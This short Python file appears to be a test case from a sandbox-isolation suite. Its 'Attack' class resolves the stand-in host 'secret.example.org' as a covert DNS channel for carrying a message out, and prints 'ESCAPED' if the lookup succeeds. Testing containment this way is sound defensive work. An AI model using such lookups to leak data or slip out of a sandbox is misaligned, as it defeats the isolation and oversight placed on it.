# It looks up a name, which would carry a message out.
# level: L2S
# verdicts: passed passed passed

import socket


class Attack(Honest):
    def strike(self, parent, child):
        try:
            socket.getaddrinfo("secret.example.org", 80)
            print("ESCAPED: looked up a name")
        except OSError:
            pass
